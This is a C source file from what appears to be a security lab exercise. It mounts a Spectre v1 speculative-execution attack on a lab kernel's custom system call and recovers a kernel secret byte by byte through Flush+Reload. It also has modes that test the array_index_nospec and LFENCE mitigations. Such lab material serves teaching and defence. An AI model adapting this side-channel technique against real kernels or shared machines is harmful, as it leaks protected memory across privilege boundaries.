/* spectre_v1.c - Spectre v1 against a system call of the lab kernel
 * (guest/spectre/kernel/student.c, built with `entrysim kernel build`):
 * spectre_gadget(idx, probe, fix) reads lab_array[idx] under a bound
 * check and touches probe[byte * 512].  Trained with in-bounds idx, then
 * called with idx = the secret's offset, the mispredicted check lets the
 * wrong path read the kernel's secret; Flush+Reload on the user's probe
 * array recovers it byte by byte (flush_reload.h).
 *
 *   spectre_v1           the open gadget: prints the kernel's secret
 *   spectre_v1 nospec    the gadget clamps idx with array_index_nospec
 *   spectre_v1 lfence    the gadget has LFENCE after the check
 * Exits 0 when the recovered string is the secret, 1 otherwise, 2 on a
 * kernel without the lab's calls. */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "flush_reload.h"

#define NR_SPECTRE_GADGET 333
#define NR_SPECTRE_OFFSET 334
#define LAB_SIZE 16 /* lab_array's: 1..16 */

static const char secret[] = "The kernel's secret"; /* what to compare with */
static long fix;

static void gadget(size_t x)
{
    syscall(NR_SPECTRE_GADGET, x, probe, fix); /* the kernel evicts its bound */
}

static int in_bounds(size_t x) { return (int)x + 1; }

int main(int argc, char **argv)
{
    fix = argc > 1 && !strcmp(argv[1], "nospec") ? 1 : argc > 1 && !strcmp(argv[1], "lfence") ? 2 : 0;
    calibrate();
    long off = syscall(NR_SPECTRE_OFFSET); /* may be negative: lab_secret is below */
    if (off == -1 && errno == ENOSYS) {
        printf("spectre_offset: ENOSYS (not the lab kernel: run with --kernel)\n");
        return 2;
    }
    victim v = {gadget, NULL, LAB_SIZE, in_bounds};
    char got[sizeof secret];
    read_string(&v, (size_t)off, got, sizeof secret - 1);
    printf("recovered: %s\n", got);
    return strcmp(got, secret) != 0;
}
